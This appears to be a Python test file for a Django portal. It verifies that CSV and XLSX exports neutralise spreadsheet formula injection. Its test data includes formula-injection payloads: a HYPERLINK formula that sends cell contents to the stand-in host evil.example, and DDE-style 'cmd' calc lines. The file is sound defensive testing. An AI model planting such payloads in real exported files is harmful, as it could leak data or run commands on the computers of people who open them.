"""Formula injection in exported files: a name that begins like a formula is inert text in every
CSV and XLSX the portal writes, and numbers stay numbers.

mcok.exports is the one place that writes cells; each export path is checked end to end with a
hostile name in one of its text columns, and a guard keeps new writers from bypassing the helper.
"""

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from directions.models import Block, Direction
from indicators import imports
from indicators.models import Indicator, IndicatorValue
from mcok import exports
from monitoring import spreadsheets
from reports import open_data, public, xlsx
from reports.models import PublicPage
from roadmaps.models import Event
from tests.indicators.factories import make_period
from tests.monitoring.factories import make_campaign, make_submission
from tests.reports.test_analytics import make_report_world
from tests.roadmaps.test_roadmap_views import make_seed_roadmap

# Texts a spreadsheet could run as a formula: the ASCII signs, the minus sign and the full-width and
# small forms, control characters, and a sign behind leading spaces (trimmed by some importers).
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1;"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u2212" + "1+1",  # − minus sign
    "\uff1d" + "1+1",  # ＝
    "\uff0b" + "1+1",  # ＋
    "\uff0d" + "1+1",  # －
    "\uff20" + "SUM(1)",  # ＠
    "\ufe62" + "1+1",  # ﹢ small plus
    "\ufe63" + "1+1",  # ﹣ small hyphen-minus
    " =1+1",
    "   @SUM(1)",
    "\u00a0=1+1",  # a no-break space
)
HARMLESS = ("СОШ № 1", "a=1", "1-2 класс", "'=1+1", " отступ", "", "e-mail: x@example.org")
NAME = '=HYPERLINK("http://evil.example","школа")'
MINUS_NAME = "\u2212" + '1+HYPERLINK("http://evil.example")'
WIDE_NAME = "\uff1d" + "cmd|' /C calc'!A0"


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def xlsx_cells(content: bytes) -> list:
    """Every filled cell of every sheet."""
    book = load_workbook(io.BytesIO(content))
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def assert_inert_csv(rows: list[list[str]], *texts: str) -> None:
    """Each text is in the file only with the leading apostrophe, and no cell could run."""
    cells = [cell for row in rows for cell in row]
    for text in texts:
        assert "'" + text in cells, text
        assert text not in cells, text
    for cell in cells:
        assert not exports.is_formula_like(cell) or _is_number(cell), cell


def assert_inert_xlsx(content: bytes, *texts: str) -> list:
    """Each text is a string cell as it was; no cell of the workbook is a formula."""
    cells = xlsx_cells(content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    strings = {cell.value for cell in cells if cell.data_type == "s"}
    for text in texts:
        assert text in strings, text
    return cells


def _is_number(text: str) -> bool:
    return re.fullmatch(r"-?\d+(,\d+)?", text) is not None  # a decimal comma, for Russian Excel


# The helper ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_text_gets_an_apostrophe_in_csv(text):
    assert exports.csv_text(text) == "'" + text
    assert csv_rows(exports.csv_bytes(["name"], [[text]]))[1] == ["'" + text]


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_is_written_as_it_is(text):
    assert exports.csv_text(text) == text


@pytest.mark.parametrize("value", [-5, Decimal("-1.5"), 3.25, 0, Decimal("62.5")])
def test_numbers_keep_their_sign_in_csv_and_stay_numbers_in_xlsx(value):
    assert exports.csv_text(value) == str(value).replace(".", ",")  # the decimal comma Russian Excel reads
    cell = xlsx_cells(exports.xlsx_bytes("T", ["value"], [[value]]))[1]
    assert cell.data_type == "n" and Decimal(str(cell.value)) == Decimal(str(value))


def test_xlsx_writes_every_hostile_text_as_a_string():
    content = exports.xlsx_bytes("T", ["=header"], [[text, 1, date(2025, 1, 31)] for text in HOSTILE])
    cells = assert_inert_xlsx(content, "=header", *(text for text in HOSTILE if "\r" not in text))
    assert [cell.data_type for cell in cells if cell.column == 2] == ["n"] * len(HOSTILE)
    assert {cell.value.date() for cell in cells if cell.column == 3} == {date(2025, 1, 31)}


def test_xlsx_drops_control_characters_it_cannot_hold_and_keeps_the_text():
    cells = xlsx_cells(exports.xlsx_bytes("T", ["name"], [["\x00=1+1\x07"]]))
    assert cells[1].value == "=1+1" and cells[1].data_type == "s"


def test_xlsx_writes_error_codes_and_lone_signs_as_strings_and_leaves_empty_cells_empty():
    texts = ["#N/A", "#DIV/0!", "#REF!", "=", "=1", "обычный текст", "#такого кода нет"]
    cells = xlsx_cells(exports.xlsx_bytes("T", ["h"] * 9, [[*texts, None, 7]]))[9:]
    assert [(cell.value, cell.data_type) for cell in cells] == [
        *((text, "s") for text in texts),
        (7, "n"),
    ]  # the empty cell is not written at all


def test_every_csv_and_xlsx_writer_goes_through_the_helper():
    """A new export that opens its own csv.writer or Workbook would skip the neutralising: only the
    helper writes CSV, and the two XLSX writers besides it type every text cell as a string."""
    root = Path(settings.BASE_DIR)
    writers = {}
    packages = [
        folder
        for folder in root.iterdir()
        if folder.is_dir() and not folder.name.startswith(".") and folder.name not in ("tests", "bench")
    ]
    for path in (path for package in packages for path in package.rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        if "/migrations/" in relative:
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|\bWorkbook\(", text):
            writers[relative] = text
    assert set(writers) == {"mcok/exports.py", "reports/xlsx.py", "monitoring/spreadsheets.py"}
    assert "exports._xlsx_cell(sheet, value)" in writers["reports/xlsx.py"]
    assert 'cell.data_type = "s"' in writers["monitoring/spreadsheets.py"]


# The export paths ----------------------------------------------------------------------------------


def _indicator_values(world) -> Indicator:
    period = make_period("2025")
    indicator = Indicator.objects.create(
        municipality=world.municipality, code="1.1.1", name=NAME, unit="%", is_published=True
    )
    world.school.short_name = MINUS_NAME
    world.school.save()
    IndicatorValue.objects.create(
        indicator=indicator, period=period, municipality=world.municipality, value=Decimal("-2.5")
    )
    IndicatorValue.objects.create(
        indicator=indicator,
        period=period,
        municipality=world.municipality,
        organization=world.school,
        numerator=Decimal(3),
        denominator=Decimal(4),
        value=Decimal(75),
    )
    return indicator


def test_indicator_values_export(world):
    _indicator_values(world)
    rows = csv_rows(imports.export_indicator_values(municipality=world.municipality, fmt="csv"))
    assert_inert_csv(rows, NAME, MINUS_NAME)
    assert rows[1][6] == "-2,5"  # a negative number is no text: no apostrophe; a decimal comma
    content = imports.export_indicator_values(municipality=world.municipality, fmt="xlsx")
    cells = assert_inert_xlsx(content, NAME, MINUS_NAME)
    assert {cell.value for cell in cells if cell.data_type == "n"} >= {Decimal("-2.5"), 3, 4, 75}


@pytest.mark.parametrize("layout", ["wide", "long"])
def test_campaign_export(world, layout):
    campaign = make_campaign(world.municipality)
    world.school.short_name = WIDE_NAME
    world.school.save()
    make_submission(
        campaign,
        world.school,
        {"teachers": "40", "teachers_diagnosed": "30", "comment": MINUS_NAME},
        by=world.respondent,
        submit=True,
    )
    rows = csv_rows(spreadsheets.campaign_export(campaign, layout=layout, fmt="csv"))
    assert_inert_csv(rows, WIDE_NAME, MINUS_NAME)
    cells = assert_inert_xlsx(spreadsheets.campaign_export(campaign, layout=layout, fmt="xlsx"), WIDE_NAME)
    assert 40 in {cell.value for cell in cells if cell.data_type == "n"}


def test_the_submission_template_holds_names_as_text(world):
    campaign = make_campaign(world.municipality, title=NAME)
    world.school.short_name = WIDE_NAME
    world.school.save()
    submission = make_submission(campaign, world.school, {"comment": MINUS_NAME}, by=world.respondent)
    assert_inert_xlsx(spreadsheets.template_bytes(submission), NAME, WIDE_NAME, MINUS_NAME)


def test_report_xlsx(world):
    w = make_report_world(world, indicators=1)
    w.weak.short_name = MINUS_NAME
    w.weak.save()
    Indicator.objects.filter(pk=w.indicators[0].pk).update(name=NAME)
    w.direction.name = WIDE_NAME
    w.direction.save()
    cells = assert_inert_xlsx(xlsx.report_xlsx(w.report), NAME, MINUS_NAME, WIDE_NAME)
    assert Decimal("62.5") in {cell.value for cell in cells if cell.data_type == "n"}


def test_open_data_csv(world):
    municipality = world.municipality
    municipality.name = MINUS_NAME
    municipality.save()
    period = make_period("2025")
    block = Block.objects.create(code="9", name="Блок")
    direction = Direction.objects.create(
        municipality=municipality, block=block, code="9.1", name=WIDE_NAME, valid_from=period
    )
    indicator = Indicator.objects.create(
        municipality=municipality, direction=direction, code="9.1.1", name=NAME, unit="@", is_published=True
    )
    IndicatorValue.objects.create(
        indicator=indicator, period=period, municipality=municipality, value=Decimal("-4")
    )
    for page in public.pages_ensure(municipality):
        if page.kind == PublicPage.Kind.DIRECTION:
            public.publish(page, user=world.operator)
    rows = csv_rows(open_data.export(open_data.table(municipality, "indicators"), "csv")[0])
    assert_inert_csv(rows, MINUS_NAME, NAME, "@")
    assert rows[1][6] == "-4"


def test_roadmap_xlsx(client, world):
    roadmap = make_seed_roadmap(world.municipality)
    Event.objects.filter(roadmap=roadmap, number="1.1.").update(content=MINUS_NAME, deadline_text=WIDE_NAME)
    client.force_login(world.coordinator)
    response = client.get(reverse("roadmaps:roadmap", args=[roadmap.pk]), {"format": "xlsx"})
    assert response.status_code == 200
    assert_inert_xlsx(response.content, MINUS_NAME, WIDE_NAME)


def test_list_xlsx(client, world):
    _indicator_values(world)
    client.force_login(world.coordinator)
    response = client.get(reverse("indicators:catalogue"), {"format": "xlsx", "period": "2025"})
    assert response.status_code == 200
    assert_inert_xlsx(response.content, NAME)
